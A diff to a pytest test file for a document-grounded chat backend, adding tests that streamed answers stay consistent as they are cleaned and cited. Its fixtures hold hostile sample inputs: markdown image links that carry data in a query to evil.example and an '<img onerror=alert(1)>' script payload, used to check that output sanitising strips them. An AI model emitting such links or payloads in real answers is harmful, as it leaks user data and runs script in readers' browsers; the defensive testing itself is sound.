@@ -15,7 +15,7 @@ import pytest
 from backends.documents.chats import Chats
 from backends.documents.endpoint import EndpointChat
 from backends.documents.fields import ChatInputs, ChatOutputs, Citation, SearchOutputs
-from backends.documents.grounding import REFUSAL, cited, cleaned, is_refusal, messages, uncited
+from backends.documents.grounding import REFUSAL, cited, cleaned, is_refusal, messages, settled, uncited
 from studio.errors import BackendFailed, Cancelled
 from studio.weights import Weights
 from tests.backends.documents.conftest import Call
@@ -40,7 +40,7 @@ INJECTED = [
 
 def passage(number: int, text: str, document: str = "a.md") -> Citation:
     return Citation(
-        number=number, document=document, page=None, page_index=0, span=(0, len(text)), passage_span=(0, len(text)),
+        number=number, collection="c", document=document, page=None, page_index=0, span=(0, len(text)), passage_span=(0, len(text)),
         headings=[], quote=text, passage=text, score=1.0,
     )  # fmt: skip
 
@@ -90,6 +90,26 @@ def test_the_marks_are_new_for_each_call() -> None:
 )
 def test_an_answer_has_no_pictures_links_or_addresses(said: str, shown: str) -> None:
     assert cleaned(said) == shown
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "It costs 12 euros. [1] And more. [2, 7] Then.",
+        "See ![a picture](http://evil.example/?q=x y) it.",
+        "See ![a][b] it.\n\n[b]: http://evil.example/p.png and so on",
+        "[Click here](http://evil.example/(x)) and go on.",
+        "[![a](http://e.example/x)](http://e.example/y) or not",
+        "Go to http://evil.example/x now, or www.evil.example later.",
+        "<img src=x onerror=alert(1)> Hi <b>you</b> there",
+        "a < b and c > d, that is all",
+    ],
+)
+def test_what_was_shown_of_an_answer_in_the_making_stays(said: str) -> None:
+    known = [passage(1, "a"), passage(2, "b")]
+    final = cited(cleaned(said), known)[0]
+    for length in range(len(said) + 1):
+        assert final.startswith(cited(cleaned(settled(said[:length])), known)[0])
 
 
 def test_only_numbers_of_passages_are_cited() -> None:
@@ -197,7 +217,7 @@ def test_the_answer_comes_in_pieces_with_its_sources(serve: Any, tmp_path: Any) 
     server, chat = serve(["Kessler ", "Roofing. [1]", " ![x](http://evil.example/?q=roof)"])
     run = Searching(tmp_path)
     outputs: list[ChatOutputs] = list(chat(ChatInputs(question="Who repairs the roof?"), run))
-    assert [one.answer for one in outputs[:2]] == ["Kessler", "Kessler Roofing. [1]"]
+    assert [one.answer for one in outputs[:-1]] == ["Kessler", "Kessler Roofing.", "Kessler Roofing. [1]"]
     last = outputs[-1]
     assert (last.answer, last.found, [one.number for one in last.citations]) == ("Kessler Roofing. [1] x", True, [1])
     [sent] = server.asked
